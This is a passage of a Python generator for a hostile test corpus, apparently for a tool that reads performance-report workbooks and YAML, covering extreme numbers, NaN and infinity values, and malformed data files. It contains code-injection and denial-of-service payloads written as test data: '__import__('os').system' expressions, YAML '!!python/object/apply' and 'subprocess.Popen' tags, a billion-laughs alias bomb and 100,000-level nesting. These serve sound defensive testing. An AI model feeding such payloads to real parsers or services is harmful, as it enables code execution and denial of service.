        e[c] = E(0, 1, 2, names=("panjang.yaml",), pattern=r"32[.,]?767|terlalu panjang|dipotong",
                 note="a cell cannot hold it: say so (path named), never cut silently")  # fmt: skip
    made.append(
        Case(
            "cell-40000-chars-yaml",
            "40,000- and 33,000-character texts in YAML",
            d,
            ("panjang.yaml",),
            e,
        )
    )
    return made


@case
def extreme_numbers(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    tk = src.table[S_KADIS]
    r1 = tk.header_row + 2
    # 1e308, not the largest float: openpyxl writes 17 significant digits at most, so
    # 1.7976931348623157e308 would come back as inf. Four quarters of 1e308 overflow a sum.
    big = 1e308

    def fn(wb: Any) -> None:
        ws = wb[S_KADIS]
        for q in ("I", "II", "III", "IV"):
            ws[f"{tk[f'Realisasi/TW {q}']}{r1}"] = big  # component A
            ws[f"{tk[f'Realisasi/TW {q}']}{r1 + 1}"] = 5e-324  # component B (denormal)
        ws[f"{tk['Target']}{r1}"] = 1e-308
        s = src.table[S_SEK]
        w2 = wb[S_SEK]
        for q in ("I", "II", "III", "IV"):
            w2[f"{s[f'Realisasi/TW {q}']}{r1}"] = -big
        w2[f"{s['Target']}{r1}"] = 0
        w2[f"{s['Target']}{s.rows[1]}"] = big

    made.append(
        _edit_case(folder, src, "extreme-numbers-workbook",
                   "±1e308 realisasi in every quarter (sums overflow), 5e-324, target 1e-308 and 0", fn,
                   usable([*WB, *MACROS]))
    )  # fmt: skip
    d = _dir(folder, "extreme-numbers-yaml")
    doc = base_doc()
    ind = doc["jabatan"][0]["kinerja"][0]["indikator"][0]
    ind["komponen"][0]["realisasi"] = [big, big, big, big]
    ind["target"] = 1e-308
    sek = doc["jabatan"][1]["kinerja"][0]["indikator"]
    sek[0]["realisasi"] = [10**400, -(10**400), 1e308, -1e308]
    sek[1]["target"] = 0
    (d / "ekstrem.yaml").write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False))
    made.append(
        Case("extreme-numbers-yaml", "±1.797e308 and ±10**400 (an int beyond float) in YAML", d,
             ("ekstrem.yaml",), {c: E(0, 1, 2) for c in DATA})
    )  # fmt: skip
    d = _dir(folder, "nan-inf-yaml")
    doc = base_doc()
    ind = doc["jabatan"][0]["kinerja"][0]["indikator"][0]
    ind["komponen"][0]["realisasi"] = [float("nan"), float("inf"), float("-inf"), 1]
    ind["target"] = float("inf")
    (d / "naninf.yaml").write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False))
    made.append(
        Case("nan-inf-yaml", ".nan, .inf, -.inf as realisasi and target in YAML", d, ("naninf.yaml",),
             {c: E(1, 2, names=("naninf.yaml",), pattern=r"angka|terhingga|tidak valid") for c in DATA})
    )  # fmt: skip
    return made


EXPRESSION_BOMBS = (
    "9**9**9",
    "A**A**A**A",
    "10**10**10**10",
    "(" * 5000 + "A" + ")" * 5000,
    "A" + "*A" * 15000,
    "__import__('os').system('touch PWNED')",
    "().__class__.__bases__[0].__subclasses__()",
    "[x for x in range(10**9)]",
    "'a' * 10**10",
)


@case
def expression_bombs(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    tk = src.table[S_KADIS]
    r = tk.header_row + 4  # the indeks indicator
    # one indeks indicator per bomb: each a copy of the IDG block with its own expression
    doc = base_doc()
    proto = doc["jabatan"][0]["kinerja"][0]["indikator"][1]
    doc["jabatan"][0]["kinerja"][0]["indikator"] = []
    for i, e in enumerate(EXPRESSION_BOMBS):
        ind = copy.deepcopy(proto)
        ind["nama"] = f"Indeks uji {i + 1}"
        ind["ekspresi"] = e
        ind["formulasi"] = f"Indeks = {e[:60]}"
        ind["komponen"][0]["realisasi"] = [9, 9, 9, 9]
        doc["jabatan"][0]["kinerja"][0]["indikator"].append(ind)
    d = _dir(folder, "expression-bombs-yaml")
    dump_yaml(doc, d / "ekspresi.yaml")
    cli_new_ok = True
    try:
        cli_new(d / "ekspresi.yaml", folder / "_ekspresi.xlsx")
    except RuntimeError:
        cli_new_ok = False
    e = usable(DATA)
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(0, 1)
    made.append(
        Case("expression-bombs-yaml", "indeks expressions: 9**9**9, 10**10**10**10, 5,000 nested "
             "parentheses, 15,000 factors, __import__, dunder walks, huge repetition", d,
             ("ekspresi.yaml",), e, time_s=15, forbid_files=("PWNED",))
    )  # fmt: skip
    # the same typed into the workbook's Ekspresi cell of the IDG indicator
    ref = f"{tk['Ekspresi (indeks)']}{r}"
    bomb = EXPRESSION_BOMBS[2]

    def fn(wb: Any) -> None:
        ws = wb[S_KADIS]
        for q in ("I", "II", "III", "IV"):
            for k in range(3):
                ws[f"{tk[f'Realisasi/TW {q}']}{r + k}"] = 9
        set_text(ws, ref, bomb)

    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(0, 1, cells=((S_KADIS, ref),), note="the expression cell is named, nothing hangs")
    made.append(
        _edit_case(folder, src, "expression-bomb-workbook", f"the IDG Ekspresi cell set to {bomb}",
                   fn, e, time_s=15, forbid_files=("PWNED",))
    )  # fmt: skip
    if cli_new_ok:
        # also the workbook `new` writes from those expressions (the cached values came from the core)
        d = _dir(folder, "expression-bombs-new-workbook")
        shutil.move(str(folder / "_ekspresi.xlsx"), d / "ekspresi.xlsx")
        made.append(
            Case("expression-bombs-new-workbook", "the workbook iki-xl new made from expression-bombs-yaml",
                 d, ("ekspresi.xlsx",), usable([*WB, *MACROS]), time_s=15, forbid_files=("PWNED",))
        )  # fmt: skip
    return made


# ---- F. data files (YAML / JSON)


@case
def data_files(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []

    def add(
        name: str, about: str, fname: str, body: str | bytes, expect: dict[str, Expect], **kw: Any
    ) -> None:
        d = _dir(folder, name)
        f = d / fname
        f.write_bytes(body if isinstance(body, bytes) else body.encode("utf-8"))
        made.append(Case(name, about, d, (fname,), expect, **kw))

    tag = "instansi:\n  nama: !!python/object/apply:os.system ['touch PWNED']\njabatan: []\n"
    add("yaml-python-tag", "!!python/object/apply:os.system in YAML", "tag.yaml", tag,
        refuse("tag.yaml", r"YAML|tidak valid|tag", DATA), forbid_files=("PWNED",))  # fmt: skip
    tag2 = "!!python/object/new:subprocess.Popen [['touch', 'PWNED']]\n"
    add("yaml-python-tag-root", "!!python/object/new:subprocess.Popen as the whole YAML document",
        "tag2.yaml", tag2, refuse("tag2.yaml", r"YAML|tidak valid|tag", DATA), forbid_files=("PWNED",))  # fmt: skip
    # billion laughs with YAML aliases: 9 levels × 9 → 9^9 references once expanded
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    bomb = "\n".join(lines)
    add("yaml-alias-bomb", "YAML billion laughs (aliases, 9^10 strings once expanded) as tugas and an unknown key",
        "alias.yaml",
        "x_bom:\n" + "\n".join("  " + ln for ln in lines) + "\ninstansi: {nama: Dinas}\njabatan:\n"
        "- id: a\n  nama: A\n  tugas: *a9\n",
        refuse("alias.yaml", None, DATA), time_s=10)  # fmt: skip
    add("yaml-alias-bomb-values", "YAML alias bomb spread over menimbang (a list of strings)", "alias2.yaml",
        bomb + "\ninstansi:\n  menimbang: *a9\njabatan: []\n", refuse("alias2.yaml", None, DATA), time_s=10)  # fmt: skip
    add("json-deeply-nested", "JSON nested 100,000 levels deep", "dalam.json",
        '{"instansi": {"nama": "Dinas"}, "jabatan": ' + "[" * 100_000 + "]" * 100_000 + "}",
        refuse("dalam.json", None, DATA))  # fmt: skip
    add("yaml-deeply-nested", "YAML flow sequence nested 10,000 levels deep", "dalam.yaml",
        "instansi: {nama: Dinas}\njabatan: " + "[" * 10_000 + "]" * 10_000 + "\n",
        refuse("dalam.yaml", None, DATA))  # fmt: skip
    doc = base_doc()
    doc["instansi"]["tahun"] = "dua ribu dua puluh lima"
    doc["jabatan"][0]["kinerja"] = 5
    doc["jabatan"][1]["kinerja"][0]["indikator"][0]["target"] = [1, 2]
    doc["jabatan"][1]["kinerja"][0]["indikator"][1]["realisasi"] = [1, 2, 3, 4, 5]
    add("wrong-types", "tahun as words, kinerja: 5, target a list, 5 realisasi values", "tipe.yaml",
        yaml.safe_dump(doc, allow_unicode=True), refuse("tipe.yaml", r"instansi\.tahun|tahun", DATA))  # fmt: skip
    add("root-not-mapping", "a YAML list at the top level", "daftar.yaml", "- a\n- b\n",
        refuse("daftar.yaml", r"pemetaan", DATA))  # fmt: skip
    doc = base_doc()
    doc["versi"] = 2
    doc["jabatan"][0]["kinerja"][0]["indikator"][0]["bobot"] = 30
    add("unknown-keys", "unknown keys at the root and in an indicator", "kunci.yaml",
        yaml.safe_dump(doc, allow_unicode=True, sort_keys=False),
        refuse("kunci.yaml", r"tidak dikenal", DATA))  # fmt: skip
    add(
        "empty-yaml",
        "a 0-byte .yaml",
        "kosong.yaml",
        "",
        refuse("kosong.yaml", r"kosong|pemetaan", DATA),
    )
    add("yaml-not-utf8", "a YAML file in Latin-1 (not UTF-8)", "latin1.yaml",
        "instansi:\n  nama: Dinas Sosial Kabupaten Probolinggo — Kecamatan Garcia\xe9\n".encode("latin-1", "replace"),
        refuse("latin1.yaml", r"UTF-8|tidak dapat dibaca|pengodean|encoding", DATA))  # fmt: skip
    add("json-utf16-bom", "a JSON document saved as UTF-16 with BOM", "utf16.json",
        json.dumps(BASE, ensure_ascii=False).encode("utf-16"),
        {c: E(0, 1, 2) for c in DATA})  # fmt: skip
    add("yaml-not-data-at-all", "a binary blob (a PNG header) named .yaml", "gambar.yaml",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)), refuse("gambar.yaml", None, DATA))  # fmt: skip
    # org-chart loops
    doc = base_doc()
    doc["jabatan"][0]["atasan"] = "kasubag"  # kadis → kasubag → sekretaris → kadis
    doc["jabatan"].append({"id": "diri", "nama": "Jabatan Atasan Dirinya", "atasan": "diri"})
    e = usable(DATA, present=(*ALL_JABATAN, "Jabatan Atasan Dirinya"))
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(1, pattern=r"melingkar|siklus|berputar")
    add("atasan-cycle", "atasan chain kadis → kasubag → sekretaris → kadis, and a jabatan its own atasan",
        "siklus.yaml", yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), e)  # fmt: skip
    doc = base_doc()
    doc["jabatan"][2]["id"] = "sekretaris"
    add("duplicate-id-yaml", "two jabatan with the same id in YAML", "idganda.yaml",
        yaml.safe_dump(doc, allow_unicode=True, sort_keys=False),
        {c: E(1, 2, pattern=r"ganda|sudah dipakai|sama|duplikat|dua kali") for c in DATA})  # fmt: skip
    return made


# ---------------------------------------------------------------- the corpus


def make_corpus(folder: Path | str, only: Iterable[str] | None = None) -> list[Case]:
    """Make every case under `folder` (emptied first) and return them; `only`: maker names."""
    folder = Path(folder)
    if folder.exists():
        for p in folder.rglob("*"):  # undo the read-only and unreadable files of a last run
            if not p.is_symlink():
                with contextlib.suppress(OSError):
                    p.chmod(0o755 if p.is_dir() else 0o644)
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    src = make_sources(folder / "_sources")
    wanted = set(only) if only else None
    cases: list[Case] = []
    for make in MAKERS:
        if wanted is None or make.__name__ in wanted:
            cases.extend(make(folder, src))
    names = [c.name for c in cases]
    dup = {n for n in names if names.count(n) > 1}
    assert not dup, f"duplicate case names: {dup}"
    return cases


def main(argv: list[str]) -> int:
    folder = Path(argv[0] if argv else "out/hostile-corpus")
    cases = make_corpus(folder, argv[1:] or None)
    for c in cases:
        print(f"{c.name:34} {', '.join(c.expect):60} {c.about}")
    print(f"{len(cases)} cases, {sum(len(c.expect) for c in cases)} case × command runs")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
